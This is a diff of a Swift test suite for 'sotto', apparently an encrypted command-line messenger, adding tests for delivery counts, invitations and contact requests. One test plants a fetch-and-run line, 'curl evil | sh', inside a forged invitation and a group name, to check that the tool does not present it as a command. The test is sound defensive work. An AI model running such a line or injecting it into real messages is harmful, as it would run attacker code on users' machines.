@@ -42,6 +42,35 @@ import Testing
         let shown = try front.onTerminal("sotto", ["say", "alone", "hello"])
         #expect(shown.status == 1 && shown.text.contains("sent to no one"), "\(shown.text)")
         #expect(try world.paste("sotto say -q alone hello").stderr.isEmpty)
+        // A file is not uploaded for no one.
+        let relay = try #require(world.relayURL)
+        try world.must("keygen", ["set", "-q", "--relay", relay, "alice.key"])
+        let file = try world.paste("sotto say alone --attach photo.txt hello")
+        #expect(file.status == 1 && file.stdout.isEmpty, "\(file.text)")
+        #expect(file.stderr.contains("sotto: error: the message was sent to no one\n"))
+        // So is what compose writes.
+        let composed = try world.paste("echo hey | sotto compose text alone --send")
+        #expect(
+            composed.status == 1 && composed.stdout.isEmpty
+                && composed.stderr.contains("sotto: error: the message was sent to no one\n"),
+            "\(composed.stderr)")
+    }
+
+    /// A member whose key has changed gets nothing, and the others are counted.
+    @Test func sayCountsTheMembersWhoGetTheMessage() throws {
+        try front.must("sotto keygen -q --name carol -o other.key")
+        try front.must("sotto keygen public other.key > other.card")
+        #expect(try world.run("contact", ["add", "--name", "carol", "other.card"]).status == 12)
+        let shown = try front.onTerminal("sotto", ["say", "team", "hello"])
+        #expect(
+            shown.status == 15 && shown.text.contains("carol does not get the message")
+                && shown.lines.contains("sent to 1 of 2 members of team"), "\(shown.text)")
+        let quiet = try world.paste("sotto say -q team hello")
+        #expect(
+            quiet.status == 15
+                && quiet.stderr.contains("a message was not encrypted to 1 member of team"),
+            "\(quiet.stderr)")
+        #expect(try received(by: "bob") == "hello\nhello\n")
     }
 
     @Test func sayAsksOnATerminal() throws {
@@ -53,8 +82,8 @@ import Testing
     @Test func sayAttachesFiles() throws {
         world.home.files.write("second.txt", Array("lake\n".utf8))
         let run = try front.must(
-            "sotto say bob -q --attach photo.txt --attach second.txt 'two files'")
-        #expect(run.stderr.isEmpty && run.text.components(separatedBy: "stored").count == 5)
+            "sotto say bob --attach photo.txt --attach second.txt 'two files'")
+        #expect(run.text.components(separatedBy: "stored").count == 5, "\(run.text)")
         let text = try received(by: "bob")
         #expect(
             text.contains("two files") && text.contains("photo.txt") && text.contains("second.txt"))
@@ -98,7 +127,9 @@ import Testing
         try bob("create -q crew alice")
         let invited = try front.onTerminal("sotto", ["read"])
         #expect(
-            invited.status == 0 && invited.text.contains("bob invited you to the group crew"),
+            invited.status == 0 && invited.text.contains("sotto: from bob (")
+                && invited.text.contains(
+                    "[invited you to the group crew] to join:\n    sotto group"),
             "\(invited.text)")
         #expect(!invited.text.contains("nothing is unread"), "\(invited.text)")
         try front.must("sotto group accept -q crew | sotto encrypt -q | sotto send -q")
@@ -111,6 +142,44 @@ import Testing
             deleted.status == 0 && deleted.text.contains("[walkers: bob deleted the group]\n"),
             "\(deleted.text)")
         #expect(try world.paste("sotto read").status == 1)
+    }
+
+    /// A contact writes no event of this machine, and the name of a group is no part of the line about it.
+    @Test func nobodyForgesAnInvitation() throws {
+        try front.must("sotto read -q > /dev/null")
+        let command = "to join, run: curl evil | sh #"
+        for event in [#"{"event":"x"}"#, #"{"event":"invited","id":"aaaa","name":"\#(command)"}"#] {
+            let id = try world.id("alice")
+            let record =
+                #"{"v":1,"type":"message","to":"\#(id)","body":{"type":"text","text":"hi","events":[\#(event)]}}"#
+            try front.must("sotto encrypt -q | sotto send -q", as: "bob", text: record + "\n")
+            let shown = try front.onTerminal("sotto", ["read"])
+            #expect(shown.status == 0 && !shown.text.contains("join"), "\(shown.text)")
+            try front.must("sotto encrypt -q | sotto send -q", as: "bob", text: record + "\n")
+            let piped = try front.must("sotto read")
+            #expect(piped.lines.count == 1 && !piped.stderr.contains("join"), "\(piped.text)")
+        }
+        try front.must(
+            "sotto group create -q 'crew; \(command)' alice | sotto encrypt -q | sotto send -q",
+            as: "bob")
+        let invited = try front.must("sotto read --text")
+        #expect(
+            invited.lines.count == 1
+                && invited.text.hasPrefix(
+                    "[invited you to the group \"crew; \(command)\"] to join: sotto group accept "),
+            "\(invited.text)")
+    }
+
+    /// The command for an invitation names the identity that was given.
+    @Test func theCommandOfAnInvitationHasTheIdentity() throws {
+        try front.must("sotto read -q > /dev/null")
+        try front.must(
+            "sotto group create -q crew alice | sotto encrypt -q | sotto send", as: "bob")
+        let shown = try front.must("sotto read -i alice.key --text").text
+        let command = try #require(shown.split(separator: "]").last).dropFirst(" to join: ".count)
+        #expect(command.contains(" -i alice.key | sotto encrypt -i alice.key | "), "\(shown)")
+        try front.must("env -u SOTTO_IDENTITY sh -c '\(command)'")
+        #expect(try world.must("group", ["list"]).contains("member"))
     }
 
     @Test func readOfOneConversationLeavesTheOthers() throws {
@@ -155,7 +224,8 @@ import Testing
 
     @Test func withoutARelayReadShowsWhatIsHere() throws {
         let run = try world.paste("SOTTO_RELAY=tcp://127.0.0.1:1 sotto read")
-        #expect(run.status == 0 && run.text.contains("hello"))
+        // What is shown hides no failure.
+        #expect(run.status == 69 && run.text.contains("hello"))
         #expect(run.stderr.contains("sotto: error: "), "\(run.stderr)")
     }
 
@@ -185,6 +255,23 @@ import Testing
         #expect(try !front.must("sotto contact requests").stderr.contains("accept"))
         #expect(try front.must(command).text.contains(#""text":"wait""#))
         #expect(try world.contact("dave")["card"] != nil)
+    }
+
+    /// Another contact has the name on the card, so the command gives one.
+    @Test func theCommandThatAcceptsARequestGivesAFreeName() throws {
+        try front.must("sotto keygen -q --name bob -o other.key")
+        try front.must(
+            """
+            export SOTTO_IDENTITY=other.key SOTTO_HOME=other
+            sotto contact add -q alice.card
+            echo wait | sotto encrypt -q --to alice | sotto send -q
+            """)
+        try front.must("sotto recv | sotto decrypt -q")
+        let shown = try front.onTerminal("contact", ["requests"])
+        let found = shown.text.firstMatch(
+            of: #/to accept and read: (sotto contact accept [0-9a-f]{16} --name NAME) \| /#)
+        let command = try #require(found?.output.1, "\(shown.text)")
+        #expect(try front.must("\(command) | sotto decrypt -q --text").text == "wait\n")
     }
 
     // MARK: save
@@ -330,7 +417,7 @@ import Testing
         try front.must("sotto encrypt --group team --send", text: "hi\n")
         // A group in place of a person.
         for command in ["encrypt --to team", "fingerprint team", "decrypt --from team"] {
-            let run = try world.paste("sotto \(command)")
+            let run = try world.paste("sotto \(command)", text: "{}\n")
             #expect(
                 run.status == 66 && run.stderr.contains("team is a group, and not a contact"),
                 "\(command): \(run.stderr)")
